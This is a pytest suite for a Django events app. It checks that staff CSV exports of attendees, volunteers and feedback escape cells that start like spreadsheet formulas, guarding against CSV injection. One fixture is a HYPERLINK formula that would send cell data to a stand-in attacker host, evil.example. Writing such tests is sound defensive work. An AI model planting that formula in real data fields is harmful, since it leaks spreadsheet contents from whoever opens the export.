"""Every staff CSV export neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)."""

import pytest

from events.services import registrations, volunteers
from tests.factories import (
    EvaluationFactory,
    EventFactory,
    UserFactory,
    VolunteerRoleFactory,
    make_staff,
    past_event,
)
from tests.utils import client_for, csv_rows

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&D2,"Click me")'


def _resident(name):
    user = UserFactory()
    user.profile.display_name = name
    user.profile.save()
    return user


def _cells(response):
    return [cell for row in csv_rows(response) for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_attendee_export_quotes_a_name_that_starts_like_a_formula(start):
    event = EventFactory()
    registrations.register(user=_resident(f"{start}1+2"), event=event)
    response = client_for(make_staff(event.organizer)).post(
        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    cells = _cells(response)
    assert f"'{start}1+2" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_volunteer_exports_quote_formulas():
    role = VolunteerRoleFactory()
    volunteers.sign_up(user=_resident(EVIL), role=role)
    staff = make_staff(role.event.organizer)
    for response in (
        client_for(staff).get(f"/events/{role.event.slug}/volunteers.csv"),
        client_for(staff).post(
            "/admin/events/event/", {"action": "export_volunteers", "_selected_action": [role.event.pk]}
        ),
    ):
        cells = _cells(response)
        assert "'" + EVIL in cells and EVIL not in cells


def test_the_feedback_export_quotes_formulas_in_names_comments_and_suggestions():
    event = past_event()
    for number in range(5):
        EvaluationFactory(event=event, user=_resident(EVIL), comment=f"@SUM({number})", suggestion="-1+1")
    staff = make_staff(event.organizer)
    for url in (f"/events/{event.slug}/feedback/export.csv", "/events/feedback/export.csv"):
        cells = _cells(client_for(staff).get(url))
        assert "'" + EVIL in cells and "'@SUM(0)" in cells and "'-1+1" in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_numbers_are_not_quoted():
    event = EventFactory(max_party_size=2)
    registrations.register(user=_resident("Li"), event=event, party_size=2)
    rows = csv_rows(
        client_for(make_staff(event.organizer)).post(
            "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
        )
    )
    assert rows[1][4] == "2"
